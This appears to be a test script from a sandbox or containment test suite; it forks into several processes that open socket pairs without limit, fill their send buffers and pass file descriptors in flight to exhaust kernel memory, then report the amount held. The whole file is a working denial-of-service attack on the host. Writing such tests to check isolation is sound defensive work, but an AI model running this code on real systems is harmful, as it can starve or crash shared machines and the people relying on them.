"""Fills socket buffers of many processes with data and descriptors in flight: memory of the kernel."""

import array
import contextlib
import os
import socket

from attack import contained

for _ in range(3):
    os.fork()
held = []
total = 0
with contextlib.suppress(OSError):
    while True:
        one, other = socket.socketpair()
        held += [one, other]
        one.setblocking(False)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
        with contextlib.suppress(BlockingIOError):
            while True:
                total += one.send(b"x" * (1 << 16))
        with contextlib.suppress(OSError):
            one.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [one.fileno(), 1]))])
contained(f"{total >> 20} MiB in {len(held)} sockets")
